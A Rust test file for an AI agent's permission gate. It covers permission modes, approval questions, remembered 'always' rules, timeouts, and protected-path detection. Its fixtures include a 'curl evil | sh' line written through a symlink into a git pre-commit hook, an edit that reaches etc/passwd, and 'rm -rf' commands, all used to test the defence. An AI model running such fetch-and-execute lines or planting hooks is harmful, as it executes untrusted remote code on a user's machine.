//! Tests of `permissions`.

use super::*;

#[test]
fn the_modes_allow_ask_and_deny_as_claude_code_does() {
    use Action::*;
    use PermissionMode::*;
    use Verdict::*;
    let table = [
        (Plan, [Allow, Deny, Deny]),
        (Default, [Allow, Ask, Ask]),
        (AcceptEdits, [Allow, Allow, Ask]),
        (BypassPermissions, [Allow, Allow, Allow]),
    ];
    for (mode, expected) in table {
        assert_eq!(
            [
                verdict(mode, Read),
                verdict(mode, Edit),
                verdict(mode, Execute)
            ],
            expected,
            "{mode}"
        );
    }
}

#[test]
fn a_child_can_only_narrow() {
    use PermissionMode::*;
    assert_eq!(BypassPermissions.narrowed_by(Default), Default);
    assert_eq!(Plan.narrowed_by(BypassPermissions), Plan);
    assert_eq!(AcceptEdits.narrowed_by(AcceptEdits), AcceptEdits);
}

#[test]
fn modes_parse_by_their_claude_code_names() {
    assert_eq!(
        "acceptEdits".parse::<PermissionMode>(),
        Ok(PermissionMode::AcceptEdits)
    );
    assert!(
        "yolo"
            .parse::<PermissionMode>()
            .unwrap_err()
            .contains(r#"unknown permission mode "yolo""#)
    );
}

#[test]
fn tools_are_classified_by_effect() {
    assert_eq!(Action::of("Read", true), Action::Read);
    assert_eq!(Action::of("Edit", false), Action::Edit);
    assert_eq!(Action::of("Bash", false), Action::Execute);
    assert_eq!(Action::of("deploy", false), Action::Execute);
}

#[test]
fn without_a_terminal_the_refusal_names_the_flag() {
    let request = PermissionRequest {
        session: SessionId::new(),
        agent: "main".into(),
        tool: "Bash".into(),
        summary: "rm -rf target".into(),
        ..PermissionRequest::default()
    };
    let text = DenyAll.refusal(&request, PermissionMode::Default);
    assert!(
        text.contains("--permission-mode bypassPermissions"),
        "{text}"
    );
    let edit = PermissionRequest {
        tool: "Edit".into(),
        ..request
    };
    assert!(
        DenyAll
            .refusal(&edit, PermissionMode::Default)
            .contains("--permission-mode acceptEdits")
    );
}

#[test]
fn a_write_through_a_symlink_shows_where_it_leads() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink(root.join(".git/hooks/pre-commit"), root.join("notes.md")).unwrap();
    let input = serde_json::json!({"file_path": "notes.md", "content": "curl evil | sh\n"});
    assert_eq!(
        summarize("Write", &input, &root),
        "notes.md (resolves to .git/hooks/pre-commit) (1 lines)\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    );
    // A path that is what it says is shown once.
    let plain = serde_json::json!({"file_path": "README.md", "content": "hi\n"});
    assert!(summarize("Write", &plain, &root).starts_with("README.md (1 lines)\n"));
    // One that leads out of the workspace says so (the call will fail).
    std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
    let out = serde_json::json!({"file_path": "etc/passwd", "old_string": "a", "new_string": "b"});
    let shown = summarize("Edit", &out, &root);
    assert!(
        shown.starts_with("etc/passwd (etc/passwd: outside the workspace ("),
        "{shown}"
    );
}

#[test]
fn an_edit_says_when_it_replaces_every_occurrence() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let input = serde_json::json!({
        "file_path": "src/lib.rs",
        "old_string": "check(x)",
        "new_string": "skip(x)",
        "replace_all": true,
    });
    assert_eq!(
        summarize("Edit", &input, &root),
        "src/lib.rs\nreplace_all: every occurrence of the old text is replaced\n@@ -1 +1 @@\n-check(x)\n\\ No newline at end of file\n+skip(x)\n\\ No newline at end of file\n"
    );
    let once = serde_json::json!({"file_path": "src/lib.rs", "old_string": "a", "new_string": "b", "replace_all": false});
    assert!(!summarize("Edit", &once, &root).contains("replace_all"));
}

#[test]
fn always_on_a_compound_line_allows_each_of_its_commands_and_so_the_line() {
    use crate::tools::rules::{RuleVerdict, Rules};
    let line = serde_json::json!({"command": "npm test &&  ls -la"});
    let rules = always_rules("Bash", &line);
    let shown: Vec<(String, bool)> = rules.iter().map(|(r, k)| (r.to_string(), *k)).collect();
    assert_eq!(
        shown,
        [
            ("Bash(npm test)".to_owned(), true),
            ("Bash(ls -la)".to_owned(), true)
        ]
    );
    let allowed = Rules {
        allow: rules.into_iter().map(|(r, _)| r).collect(),
        ..Rules::default()
    };
    assert_eq!(
        allowed.verdict("Bash", &line),
        Some(RuleVerdict::Allow),
        "the saved rules allow the line they were saved for"
    );
    let other = serde_json::json!({"command": "npm test && rm -rf x"});
    assert_eq!(allowed.verdict("Bash", &other), None);
    // A line the scanner cannot split (a redirection into a file): no exact rule
    // could cover it, so none is saved.
    let redirected = serde_json::json!({"command": "cargo test > log"});
    assert!(always_rules("Bash", &redirected).is_empty());
}

#[test]
fn a_protected_path_is_told_from_where_the_path_leads() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::os::unix::fs::symlink(".git/config", ws.join("innocent.txt")).unwrap();
    let edit = |path: &str| serde_json::json!({ "file_path": path });
    for path in [
        ".git/config",
        "innocent.txt",
        "agents/x.md",
        ".claude/settings.json",
    ] {
        assert!(
            super::changes_protected_path("Edit", &edit(path), &ws),
            "{path}"
        );
    }
    assert!(!super::changes_protected_path(
        "Edit",
        &edit("src/lib.rs"),
        &ws
    ));
    assert!(!super::changes_protected_path(
        "Read",
        &edit(".git/config"),
        &ws
    ));
}

/// Answers "always" to each question once let: a person slow to answer.
#[derive(Debug)]
struct SlowAlways {
    asked: std::sync::atomic::AtomicUsize,
    answers: tokio::sync::Semaphore,
}

impl Approver for SlowAlways {
    fn ask(&self, _request: PermissionRequest) -> BoxFuture<'_, Answer> {
        self.asked.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        Box::pin(async {
            self.answers.acquire().await.unwrap().forget();
            Answer::Always
        })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_always_answer_covers_the_calls_that_waited_to_ask() {
    use std::sync::atomic::Ordering;
    let approver = std::sync::Arc::new(SlowAlways {
        asked: Default::default(),
        answers: tokio::sync::Semaphore::new(0),
    });
    let gate = gate_asking(approver.clone());
    let (_dir, ctx) = crate::tools::test_context();
    let write = |file: &str| serde_json::json!({"file_path": file, "content": "x"});
    let (first, second) = (write("a.txt"), write("b.txt"));
    // Both calls want a question at once; the person answers the first only
    // once it is asked, then no more.
    let answer = async {
        while approver.asked.load(Ordering::SeqCst) == 0 {
            tokio::task::yield_now().await;
        }
        approver.answers.add_permits(1);
    };
    let both = async {
        tokio::join!(
            gate.check(&ctx, "Write", false, &first, None),
            gate.check(&ctx, "Write", false, &second, None),
            answer
        )
    };
    let (a, b, ()) = tokio::time::timeout(std::time::Duration::from_secs(10), both)
        .await
        .expect("a call waited for an answer that never came");
    assert!(a.is_ok() && b.is_ok());
    assert_eq!(approver.asked.load(Ordering::SeqCst), 1);
}

/// A person who answers no to every question, counting them.
#[derive(Debug, Default)]
struct SaysNo {
    asked: std::sync::atomic::AtomicUsize,
}

impl Approver for SaysNo {
    fn ask(&self, _request: PermissionRequest) -> BoxFuture<'_, Answer> {
        self.asked.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        Box::pin(async { Answer::No })
    }
}

fn gate_asking(approver: std::sync::Arc<dyn Approver>) -> Gate {
    Gate {
        mode: PermissionMode::Default,
        agent: "coder".into(),
        approver,
        remembered: std::sync::Arc::default(),
        questions: std::sync::Arc::default(),
        approval_timeout: std::time::Duration::ZERO,
        events: None,
        bash_rules: std::sync::Arc::from(Vec::new()),
        role_deny: std::sync::Arc::from(Vec::new()),
        rules: std::sync::Arc::default(),
        saver: None,
        hooks: None,
        transcript: None,
    }
}

#[tokio::test]
async fn a_persons_no_ends_the_turn_and_a_refusal_for_want_of_anyone_does_not() {
    use std::sync::atomic::Ordering;
    let person = std::sync::Arc::new(SaysNo::default());
    let gate = gate_asking(person.clone());
    let (_dir, ctx) = crate::tools::test_context();
    let write = |file: &str| serde_json::json!({"file_path": file, "content": "x"});
    let read = serde_json::json!({"file_path": "a.txt"});
    // Two calls of one turn want a question at once: the first is refused by
    // the person, the second is then not asked.
    let (first, second) = (write("a.txt"), write("b.txt"));
    let (a, b) = tokio::join!(
        gate.check(&ctx, "Write", false, &first, None),
        gate.check(&ctx, "Write", false, &second, None),
    );
    assert_eq!(person.asked.load(Ordering::SeqCst), 1);
    let said = |r: Result<(), crate::error::ToolError>| r.unwrap_err().to_string();
    let (a, b) = (said(a), said(b));
    assert!(a.contains("was not approved"), "{a}");
    assert!(b.contains(REFUSED_EARLIER), "{b}");
    // Even a call nobody would be asked about is not run in that turn.
    let later = said(gate.check(&ctx, "Read", true, &read, None).await);
    assert!(later.contains(REFUSED_EARLIER), "{later}");
    // The next turn asks again.
    let (_dir2, next) = crate::tools::test_context();
    assert!(gate.check(&next, "Read", true, &read, None).await.is_ok());
    let asked = gate
        .check(&next, "Write", false, &write("c.txt"), None)
        .await;
    assert!(said(asked).contains("was not approved"));
    assert_eq!(person.asked.load(Ordering::SeqCst), 2);

    // With nobody to ask, each call is refused on its own, as before.
    let headless = gate_asking(std::sync::Arc::new(DenyAll));
    let (_dir3, ctx) = crate::tools::test_context();
    for file in ["a.txt", "b.txt"] {
        let refused = said(
            headless
                .check(&ctx, "Write", false, &write(file), None)
                .await,
        );
        assert!(refused.contains("no terminal to ask"), "{refused}");
    }
    assert!(
        headless
            .check(&ctx, "Read", true, &read, None)
            .await
            .is_ok()
    );
}

#[tokio::test]
async fn each_question_put_is_published_with_its_own_id() {
    let bus = crate::events::EventBus::new();
    let mut seen = bus.subscribe();
    let (_dir, ctx) = crate::tools::test_context();
    let gate = Gate {
        events: Some(crate::events::Publisher::new(
            bus.clone(),
            ctx.session,
            None,
            "coder",
        )),
        ..gate_asking(std::sync::Arc::new(SaysNo::default()))
    };
    let write = |file: &str| serde_json::json!({"file_path": file, "content": "x\n"});
    let mut ids = Vec::new();
    for file in ["a.txt", "b.txt"] {
        // Each in a turn of its own: a no ends only its own.
        let (_dir, mut ctx) = crate::tools::test_context();
        ctx.call_id = format!("call-{file}");
        let _ = gate.check(&ctx, "Write", false, &write(file), None).await;
        let asked = std::iter::from_fn(|| seen.try_recv())
            .find_map(|event| match event.kind {
                crate::protocol::EventKind::PermissionRequested {
                    call_id,
                    question_id,
                    tool,
                    summary,
                } => Some((call_id, question_id, tool, summary)),
                _ => None,
            })
            .expect("the question is published");
        assert_eq!(asked.0, format!("call-{file}"));
        assert_eq!(asked.2, "Write");
        assert!(asked.3.contains(file), "{}", asked.3);
        assert!(asked.1.starts_with("q-"), "{}", asked.1);
        ids.push(asked.1);
    }
    assert_ne!(ids[0], ids[1]);
}

/// The `permission_answered` events published so far: (question, answer, by,
/// covered by).
fn answers(seen: &mut crate::events::EventStream) -> Vec<(String, String, String, Option<String>)> {
    std::iter::from_fn(|| seen.try_recv())
        .filter_map(|event| match event.kind {
            crate::protocol::EventKind::PermissionAnswered {
                question_id,
                answer,
                by,
                covered_by,
            } => Some((question_id, answer, by, covered_by)),
            _ => None,
        })
        .collect()
}

/// A gate with nobody to ask that waits `timeout` for `orchestrate approve`,
/// publishing as `session` on `bus`.
fn waiting_gate(
    bus: &crate::events::EventBus,
    session: SessionId,
    questions: &std::sync::Arc<Questions>,
    remembered: &std::sync::Arc<Remembered>,
) -> Gate {
    Gate {
        events: Some(crate::events::Publisher::new(
            bus.clone(),
            session,
            None,
            "coder",
        )),
        questions: questions.clone(),
        remembered: remembered.clone(),
        approval_timeout: std::time::Duration::from_secs(300),
        ..gate_asking(std::sync::Arc::new(DenyAll))
    }
}

/// Waits (paused time) until `n` questions wait on `desk`; panics past ten
/// of its seconds.
async fn questions_waiting(desk: &Questions, n: usize) -> Vec<PendingQuestion> {
    for _ in 0..10_000 {
        let pending = desk.pending();
        if pending.len() >= n {
            return pending;
        }
        tokio::time::sleep(std::time::Duration::from_millis(1)).await;
    }
    panic!("{n} questions never waited: {:?}", desk.pending());
}

#[tokio::test(start_paused = true)]
async fn with_nobody_to_ask_a_question_waits_for_an_approve_until_its_timeout() {
    let bus = crate::events::EventBus::new();
    let mut seen = bus.subscribe();
    let (desk, remembered) = (std::sync::Arc::default(), std::sync::Arc::default());
    let (_dir, ctx) = crate::tools::test_context();
    let gate = waiting_gate(&bus, ctx.session, &desk, &remembered);
    let make = serde_json::json!({"command": "make"});

    // Answered yes from another terminal.
    let asking = gate.check(&ctx, "Bash", false, &make, None);
    let approving = async {
        let pending = questions_waiting(&desk, 1).await;
        assert_eq!(pending[0].tool, "Bash");
        assert_eq!(pending[0].summary, "make");
        let yes = Decision {
            answer: Answer::Yes,
            by: By::Approve,
        };
        desk.answer(ctx.session, None, yes).unwrap()
    };
    let (allowed, id) = tokio::join!(asking, approving);
    assert!(allowed.is_ok(), "{allowed:?}");
    assert!(desk.pending().is_empty());
    assert_eq!(
        answers(&mut seen),
        [(id, "yes".into(), "approve".into(), None)]
    );

    // Nobody answers: refused when the timeout ends, and not before.
    let began = tokio::time::Instant::now();
    let refused = gate.check(&ctx, "Bash", false, &make, None).await;
    assert_eq!(began.elapsed(), std::time::Duration::from_secs(300));
    let why = refused.unwrap_err().to_string();
    assert!(why.contains("nobody approved it within 5m"), "{why}");
    let told = answers(&mut seen);
    assert_eq!((told[0].1.as_str(), told[0].2.as_str()), ("no", "timeout"));
    // A timeout is nobody's no: the turn goes on.
    assert!(ctx.refused_earlier().is_ok());

    // A no from another terminal is the person's: it ends the turn.
    let asking = gate.check(&ctx, "Bash", false, &make, None);
    let refusing = async {
        questions_waiting(&desk, 1).await;
        let no = Decision {
            answer: Answer::No,
            by: By::Approve,
        };
        desk.answer(ctx.session, None, no).unwrap()
    };
    let (refused, _) = tokio::join!(asking, refusing);
    let why = refused.unwrap_err().to_string();
    assert!(why.contains("refused from another terminal"), "{why}");
    assert!(ctx.refused_earlier().is_err());
}

#[tokio::test(start_paused = true)]
async fn an_always_answers_the_waiting_questions_it_allows_in_every_session() {
    let bus = crate::events::EventBus::new();
    let mut seen = bus.subscribe();
    let (desk, remembered) = (std::sync::Arc::default(), std::sync::Arc::default());
    let (_one, first) = crate::tools::test_context();
    let (_two, second) = crate::tools::test_context();
    let (_three, third) = crate::tools::test_context();
    let gates: Vec<Gate> = [&first, &second, &third]
        .iter()
        .map(|ctx| waiting_gate(&bus, ctx.session, &desk, &remembered))
        .collect();
    let test = serde_json::json!({"command": "npm test"});
    let deploy = serde_json::json!({"command": "npm run deploy"});
    let asking = async {
        tokio::join!(
            gates[0].check(&first, "Bash", false, &test, None),
            gates[1].check(&second, "Bash", false, &test, None),
            gates[2].check(&third, "Bash", false, &deploy, None),
        )
    };
    let answering = async {
        let pending = questions_waiting(&desk, 3).await;
        let always = Decision {
            answer: Answer::Always,
            by: By::Approve,
        };
        let id = desk.answer(first.session, None, always).unwrap();
        assert_eq!(id, pending[0].id);
        // `npm test` in another session is covered; `npm run deploy` is not.
        while desk.pending().len() > 1 {
            tokio::time::sleep(std::time::Duration::from_millis(1)).await;
        }
        assert_eq!(desk.pending()[0].session, third.session);
        let no = Decision {
            answer: Answer::No,
            by: By::Approve,
        };
        desk.answer(third.session, None, no).unwrap();
        pending
    };
    let ((a, b, c), pending) = tokio::join!(asking, answering);
    assert!(a.is_ok() && b.is_ok(), "{a:?} {b:?}");
    assert!(c.is_err());
    let told = answers(&mut seen);
    assert_eq!(told.len(), 3, "{told:?}");
    assert!(told.contains(&(
        pending[1].id.clone(),
        "yes".into(),
        "always".into(),
        Some(pending[0].id.clone())
    )));
}

#[tokio::test(start_paused = true)]
async fn an_always_covers_neither_what_a_rule_asks_nor_another_sessions_own_and_a_no_only_its_turn()
{
    let bus = crate::events::EventBus::new();
    let (desk, remembered) = (std::sync::Arc::default(), std::sync::Arc::default());
    let (_a, first) = crate::tools::test_context();
    let (_b, asked_by_rule) = crate::tools::test_context();
    let (_c, other_write) = crate::tools::test_context();
    let (_d, same_turn) = crate::tools::test_context();
    let (_e, next_turn) = crate::tools::test_context();
    // `same_turn` is a second call of `first`'s turn; `next_turn` another
    // turn of the same session.
    let same_turn = crate::tools::ToolContext {
        session: first.session,
        refused_in_turn: first.refused_in_turn.clone(),
        ..same_turn
    };
    let next_turn = crate::tools::ToolContext {
        session: first.session,
        ..next_turn
    };
    let gate =
        |ctx: &crate::tools::ToolContext| waiting_gate(&bus, ctx.session, &desk, &remembered);
    let ruled = Gate {
        rules: std::sync::Arc::new(crate::tools::rules::Rules {
            ask: vec![crate::tools::rules::Rule::parse("Bash(npm test)").unwrap()],
            ..crate::tools::rules::Rules::default()
        }),
        ..gate(&asked_by_rule)
    };
    let test = serde_json::json!({"command": "npm test"});
    let write = serde_json::json!({"file_path": "a.txt", "content": "x"});
    let make = serde_json::json!({"command": "make"});
    let yes = |by| Decision {
        answer: Answer::Always,
        by,
    };
    let (first_gate, other_gate) = (gate(&first), gate(&other_write));
    let asking = async {
        tokio::join!(
            first_gate.check(&first, "Bash", false, &test, None),
            ruled.check(&asked_by_rule, "Bash", false, &test, None),
            other_gate.check(&other_write, "Write", false, &write, None),
        )
    };
    let answering = async {
        questions_waiting(&desk, 3).await;
        desk.answer(first.session, None, yes(By::Approve)).unwrap();
        // A Write "always" holds for its own session only.
        desk.answer(other_write.session, None, yes(By::Approve))
            .unwrap();
        // The rule's question still waits: a rule wants the person's own answer.
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        let left = desk.pending();
        assert_eq!(left.len(), 1, "{left:?}");
        assert_eq!(left[0].session, asked_by_rule.session);
        let no = Decision {
            answer: Answer::No,
            by: By::Approve,
        };
        desk.answer(asked_by_rule.session, None, no).unwrap();
    };
    let ((a, b, c), ()) = tokio::join!(asking, answering);
    assert!(a.is_ok() && c.is_ok(), "{a:?} {c:?}");
    assert!(b.is_err());
    // The Write "always" of the other session does not answer this one's.
    let asking = first_gate.check(&next_turn, "Write", false, &write, None);
    let refusing = async {
        questions_waiting(&desk, 1).await;
        let no = Decision {
            answer: Answer::No,
            by: By::Approve,
        };
        desk.answer(first.session, None, no).unwrap();
    };
    let (refused, ()) = tokio::join!(asking, refusing);
    assert!(
        refused
            .unwrap_err()
            .to_string()
            .contains("refused from another terminal")
    );
    // That no ended `next_turn`'s turn, not `first`'s.
    assert!(next_turn.refused_earlier().is_err());
    assert!(same_turn.refused_earlier().is_ok());
    let asking = first_gate.check(&same_turn, "Bash", false, &make, None);
    let approving = async {
        questions_waiting(&desk, 1).await;
        let yes = Decision {
            answer: Answer::Yes,
            by: By::Approve,
        };
        desk.answer(first.session, None, yes).unwrap();
    };
    let (allowed, ()) = tokio::join!(asking, approving);
    assert!(allowed.is_ok());
}
